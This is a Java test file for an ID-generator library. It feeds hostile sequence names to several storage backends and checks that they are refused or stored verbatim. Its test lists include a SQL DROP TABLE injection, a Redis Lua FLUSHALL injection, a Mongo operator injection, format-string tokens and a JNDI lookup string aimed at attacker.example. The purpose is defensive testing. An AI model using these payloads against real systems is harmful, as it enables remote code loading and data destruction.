package io.github.idgen.autoconfigure;

import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import java.util.function.Function;
import java.util.stream.Collectors;

import javax.sql.DataSource;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

import org.springframework.boot.test.context.assertj.AssertableApplicationContext;
import org.springframework.boot.test.context.runner.ApplicationContextRunner;
import org.springframework.data.mongodb.core.MongoTemplate;
import org.springframework.data.redis.connection.RedisConnectionFactory;
import org.springframework.data.redis.core.StringRedisTemplate;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.jdbc.datasource.DelegatingDataSource;

import io.github.idgen.DefaultIdGenerator;
import io.github.idgen.IdGenerator;
import io.github.idgen.Sequence;
import io.github.idgen.UnknownSequenceException;
import io.github.idgen.autoconfigure.jdbc.JdbcProperties;
import io.github.idgen.autoconfigure.mongo.MongoProperties;
import io.github.idgen.autoconfigure.redis.RedisProperties;
import io.github.idgen.test.FetchThreads;
import io.github.idgen.test.SwitchableConnectionFactory;
import io.github.idgen.test.TestBackends;

import static io.github.idgen.autoconfigure.StartupFailures.invalidProperty;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

/**
 * What an attacker or a careless caller passes, fed to every backend: names no backend
 * can serve are refused at once with an {@link IllegalArgumentException} that names the
 * rule and echoes the name safely, before any row, key, document, buffer or fetch thread
 * exists for them; names full of SQL, Lua, format and lookup metacharacters or unicode
 * are served like any other and stored verbatim; batch counts out of range are refused
 * before anything is allocated; sequences created on first use stop at the limit; and
 * formats and properties that cannot work stop the application at startup.
 */
class HostileInputTests {

	private static final List<String> INVALID_NAMES = List.of("", " leading", "trailing ", "nul\u0000char",
			"line\nFAKE LOG LINE", "tab\tname", "next\u0085line", "x".repeat(129), "y".repeat(10_000), "order@20261121",
			"@");

	private static final List<String> INVALID_ON_REDIS = List.of("a{b}", "{", "}", "{$gt: ''}",
			"${jndi:ldap://attacker.example/x}");

	private static final List<String> NASTY_BUT_VALID = List.of("'; DROP TABLE idgen_segment; --", "\" OR \"1\"=\"1",
			"redis.call('FLUSHALL')", "]]..redis.call('FLUSHALL')..[[", "%s%n%x%d", "ünïcødé-序列-🎉", "z".repeat(128),
			"back\\slash", "$where", "_id", "a.b.c", "*", "?", "idgen:worker:0", "{$gt: ''}",
			"${jndi:ldap://attacker.example/x}");

	@ParameterizedTest
	@EnumSource(Backend.class)
	void namesNoBackendCanServeAreRefusedAtOnceAndCostNothing(Backend backend) {
		List<Thread> threadsBefore = FetchThreads.alive();
		backend.run((context, store) -> {
			IdGenerator ids = context.getBean(IdGenerator.class);
			List<String> invalid = new ArrayList<>(INVALID_NAMES);
			if (backend == Backend.REDIS) {
				invalid.addAll(INVALID_ON_REDIS);
			}
			for (String name : invalid) {
				long started = System.nanoTime();
				assertThatIllegalArgumentException().as(printable(name))
					.isThrownBy(() -> ids.nextId(name))
					.satisfies((ex) -> assertThat(ex.getMessage()).startsWith("Sequence name must")
						.hasSizeLessThan(400)
						.doesNotContain("\n", "\u0000", "\t", "\u0085"));
				assertThatIllegalArgumentException().isThrownBy(() -> ids.nextIds(name, 10));
				assertThatIllegalArgumentException().isThrownBy(() -> ids.sequence(name));
				assertThatIllegalArgumentException().isThrownBy(() -> ids.decodeFormattedId(name, "ORD000001"));
				assertThat(Duration.ofNanos(System.nanoTime() - started)).as(printable(name))
					.isLessThan(Duration.ofMillis(200));
			}
			assertThat(context.getBean(DefaultIdGenerator.class).sequences()).isEmpty();
			assertThat(store.names(context)).isEmpty();
		});
		List<Thread> started = new ArrayList<>(FetchThreads.alive());
		started.removeAll(threadsBefore);
		assertThat(started).as("fetch threads started").isEmpty();
	}

	@ParameterizedTest
	@EnumSource(Backend.class)
	void namesFullOfMetacharactersAreServedAndStoredVerbatim(Backend backend) {
		List<String> names = NASTY_BUT_VALID.stream()
			.filter((name) -> backend != Backend.REDIS || !INVALID_ON_REDIS.contains(name))
			.toList();
		backend.run((context, store) -> {
			IdGenerator ids = context.getBean(IdGenerator.class);
			Set<Long> all = new HashSet<>();
			for (String name : names) {
				long first = ids.nextId(name);
				long second = ids.nextId(name);
				assertThat(second).as(printable(name)).isGreaterThan(first);
				long[] batch = ids.nextIds(name, 3);
				assertThat(batch).as(printable(name)).isSorted().hasSize(3);
				assertThat(batch[0]).as(printable(name)).isGreaterThan(second);
				all.add(first);
			}
			if (backend == Backend.SNOWFLAKE) {
				assertThat(all).as("IDs of one snowflake worker, unique across names").hasSize(names.size());
			}
			else {
				assertThat(store.names(context)).containsExactlyInAnyOrderElementsOf(names);
			}
		});
	}

	@ParameterizedTest
	@EnumSource(Backend.class)
	void batchCountsOutOfRangeAreRefusedBeforeAnythingIsAllocated(Backend backend) {
		backend.run((context, store) -> {
			IdGenerator ids = context.getBean(IdGenerator.class);
			Sequence order = ids.sequence("order");
			for (int count : new int[] { 0, -1, Integer.MIN_VALUE, Sequence.MAX_BATCH_SIZE + 1, Integer.MAX_VALUE }) {
				assertThatIllegalArgumentException().isThrownBy(() -> ids.nextIds("order", count))
					.withMessageContaining("count must be");
				assertThatIllegalArgumentException().isThrownBy(() -> order.next(count));
			}
			long first = ids.nextId("order");
			long[] batch = ids.nextIds("order", 2);
			if (backend == Backend.SNOWFLAKE) {
				// snowflake IDs jump where the millisecond changes between the calls
				assertThat(batch).as("a batch after the refused ones").hasSize(2).isSorted();
				assertThat(batch[0]).isGreaterThan(first);
			}
			else {
				assertThat(batch).as("nothing was taken by the refused batches").containsExactly(first + 1, first + 2);
			}
		});
	}

	@Test
	void sequencesCreatedOnFirstUseStopAtTheLimit() {
		Backend.H2.runner().withPropertyValues("idgen.max-unknown-sequences=3").run((context) -> {
			IdGenerator ids = context.getBean(IdGenerator.class);
			for (int i = 0; i < 3; i++) {
				ids.nextId("visitor-" + i);
			}
			assertThatExceptionOfType(UnknownSequenceException.class).isThrownBy(() -> ids.nextId("visitor-3"))
				.withMessageContaining("idgen.max-unknown-sequences");
			assertThat(jdbc(context).queryForList("select sequence_name from idgen_segment", String.class))
				.containsExactlyInAnyOrder("visitor-0", "visitor-1", "visitor-2");
		});
	}

	@Test
	void configuredNamesThatCannotWorkStopTheApplication() {
		Backend.H2.runner()
			.withPropertyValues("idgen.sequences[order@2026].start=1")
			.run((context) -> assertThat(invalidProperty(context, "idgen.sequences").getDescription())
				.contains("'order@2026'")
				.contains("must not contain '@'"));
		Backend.H2.runner()
			.withPropertyValues("idgen.default-sequence=" + "d".repeat(10_000))
			.run((context) -> assertThat(invalidProperty(context, "idgen.default-sequence").getDescription())
				.contains("at most 128 characters")
				.hasSizeLessThan(600));
	}

	@Test
	void formatsThatCannotTellPeriodsOrValuesApartStopTheApplication() {
		for (String format : List.of("ORD{seq:6}", "ORD{yyMM}{seq:4}", "ORD{YYYYMMdd}{seq:4}", "ORD{d}{seq}")) {
			Backend.H2.runner()
				.withPropertyValues("idgen.sequences.order.format=" + format, "idgen.sequences.order.reset=daily")
				.run((context) -> assertThat(invalidProperty(context, "idgen.sequences.order.format").getDescription())
					.as(format)
					.contains(format));
		}
	}

	@Test
	void misspelledPropertiesStopTheApplicationNamingThePropertyMeant() {
		Backend.H2.runner()
			.withPropertyValues("idgen.sequences.order.strat=1000")
			.run((context) -> assertThat(context).hasFailed()
				.getFailure()
				.rootCause()
				.hasMessageContaining("idgen.sequences.order.strat"));
	}

	private static JdbcTemplate jdbc(AssertableApplicationContext context) {
		return new JdbcTemplate(context.getBean(DataSource.class));
	}

	private static String printable(String name) {
		return (name.length() > 40) ? name.substring(0, 40) + "... (" + name.length() + ")"
				: name.replace("\n", "\\n").replace("\u0000", "\\0");
	}

	/**
	 * Reads the names a backend's store keeps counters for.
	 */
	@FunctionalInterface
	interface StoredNames {

		Set<String> names(AssertableApplicationContext context);

	}

	/**
	 * A test that runs in a context of one backend, with a fresh namespace in its store.
	 */
	@FunctionalInterface
	interface BackendTest {

		void run(AssertableApplicationContext context, StoredNames store);

	}

	/**
	 * The backends, each on a table, key prefix or collection of its own; the shared
	 * pools and connection factories of the test backends are wrapped, so that closing a
	 * context does not close them.
	 */
	enum Backend {

		H2("jdbc"), POSTGRESQL("jdbc"), MARIADB("jdbc"), REDIS("redis"), MONGO("mongo"), SNOWFLAKE("snowflake");

		private final String backend;

		Backend(String backend) {
			this.backend = backend;
		}

		ApplicationContextRunner runner() {
			ApplicationContextRunner runner = new ApplicationContextRunner()
				.withConfiguration(IdgenAutoConfigurations.of())
				.withPropertyValues("idgen.backend=" + this.backend);
			String namespace = "idgen_hostile_" + UUID.randomUUID().toString().substring(0, 8);
			return switch (this) {
				case H2 -> runner.withBean(DataSource.class, TestBackends::h2)
					.withPropertyValues("idgen.jdbc.initialize-schema=always");
				case POSTGRESQL ->
					runner.withBean(DataSource.class, () -> new DelegatingDataSource(TestBackends.postgres()))
						.withPropertyValues("idgen.jdbc.initialize-schema=always", "idgen.jdbc.table=" + namespace);
				case MARIADB ->
					runner.withBean(DataSource.class, () -> new DelegatingDataSource(TestBackends.mariaDb()))
						.withPropertyValues("idgen.jdbc.initialize-schema=always", "idgen.jdbc.table=" + namespace);
				case REDIS -> runner
					.withBean(RedisConnectionFactory.class, () -> new SwitchableConnectionFactory(TestBackends.redis()))
					.withPropertyValues("idgen.redis.key-prefix=" + namespace + ":");
				case MONGO -> runner.withBean(MongoTemplate.class, TestBackends::mongo)
					.withPropertyValues("idgen.mongo.collection=" + namespace);
				case SNOWFLAKE -> runner.withPropertyValues("idgen.snowflake.worker-id=1");
			};
		}

		void run(BackendTest test) {
			runner().run((context) -> test.run(context, storedNames(context)));
		}

		private StoredNames storedNames(AssertableApplicationContext context) {
			return switch (this) {
				case H2, POSTGRESQL, MARIADB -> (ctx) -> Set.copyOf(jdbc(ctx).queryForList(
						"select sequence_name from " + ctx.getBean(JdbcProperties.class).getTable(), String.class));
				case REDIS -> (ctx) -> redisNames(ctx, ctx.getBean(RedisProperties.class).getKeyPrefix());
				case MONGO -> (ctx) -> ctx.getBean(MongoTemplate.class)
					.getCollection(ctx.getBean(MongoProperties.class).getCollection())
					.find()
					.map((document) -> document.getString("_id"))
					.into(new HashSet<>());
				case SNOWFLAKE -> (ctx) -> Set.of();
			};
		}

		private static Set<String> redisNames(AssertableApplicationContext context, String prefix) {
			Set<String> keys = new StringRedisTemplate(context.getBean(RedisConnectionFactory.class))
				.keys(prefix + "*");
			Function<String, String> name = (key) -> key.substring(prefix.length() + 1, key.lastIndexOf('}'));
			return keys.stream().map(name).collect(Collectors.toSet());
		}

	}

}
